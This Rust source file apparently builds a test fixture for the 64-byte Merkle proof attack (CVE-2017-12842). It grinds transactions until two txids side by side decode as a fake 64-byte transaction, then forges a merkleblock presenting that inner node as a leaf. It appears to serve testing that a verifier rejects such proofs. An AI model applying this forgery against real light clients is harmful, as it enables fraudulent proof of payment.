//! The 64-byte attack on Merkle proofs (CVE-2017-12842), for real: a block of four good transactions in which the ids of
//! the last two, side by side, read as a transaction of 64 bytes that nobody ever made. Whoever takes an inner node of the
//! tree for a leaf believes that it is in the block.

use crate::block::{Block, OP_TRUE};
use crate::embedded_chain::{EmbeddedChain, spend};
use plimsoll::chain::{Transaction, TxOut};
use plimsoll::crypto::hash::sha256d;
use plimsoll::encoding::reader::write_compact_size;
use plimsoll::proof::bundle::{AnchorBlock, Bytes};

/// Coinbases that nobody else spends.
const COINBASES: [u32; 3] = [3, 4, 5];
/// Where the search for the last transaction's number, from 0, comes to its end: starting there saves a minute.
const FIRST_TRY: u32 = 0x009b_74df;

/// A transaction that spends a coinbase and differs from others of its kind by a number.
fn numbered(chain: &EmbeddedChain, coinbase: u32, number: u32) -> Transaction {
    let (output, value) = chain.coinbase(coinbase).expect("the sample's first coinbases are there");
    let mut data = vec![0x6a, 4];
    data.extend_from_slice(&number.to_le_bytes());
    spend(output, vec![TxOut { value, script: OP_TRUE.to_vec() }, TxOut { value: 0, script: data }])
}

/// Two ids side by side, where they read as a transaction.
fn read_as_one(left: &Transaction, right: &Transaction) -> Option<Transaction> {
    let bytes = [left.txid().0, right.txid().0].concat();
    Transaction::decode(&bytes).ok().filter(|tx| tx.stripped_size() == bytes.len())
}

/// The three transactions beside the coinbase. Each is a good one.
pub fn transactions(chain: &EmbeddedChain) -> Vec<Transaction> {
    let first = numbered(chain, COINBASES[0], 0);
    // The left half of a transaction with one input has a 1 after its version.
    let left = (0..).map(|number| numbered(chain, COINBASES[1], number)).find(|tx| tx.txid().0[4] == 1);
    let left = left.expect("one in 256 fits");
    let right = (FIRST_TRY..).map(|number| numbered(chain, COINBASES[2], number));
    let right = right.into_iter().find(|right| read_as_one(&left, right).is_some()).expect("one in some millions fits");
    vec![first, left, right]
}

/// The inner node presented as a transaction, and the block's tree presented as one level lower than it is.
pub fn claim(block: &Block, height: u32) -> Option<(Transaction, AnchorBlock)> {
    let [coinbase, first, left, right] = block.transactions() else { return None };
    let posing = read_as_one(left, right)?;
    let mut merkleblock = block.header().encode().to_vec();
    merkleblock.extend_from_slice(&2u32.to_le_bytes());
    write_compact_size(&mut merkleblock, 2);
    merkleblock.extend_from_slice(&sha256d(&[coinbase.txid().0, first.txid().0].concat()));
    merkleblock.extend_from_slice(&posing.txid().0);
    // One byte of flags: root, left and right, all matched.
    merkleblock.extend_from_slice(&[1, 0b111]);
    let block = AnchorBlock { height, merkleblock: Bytes(merkleblock), coinbase: Bytes(coinbase.encode()) };
    Some((posing, block))
}
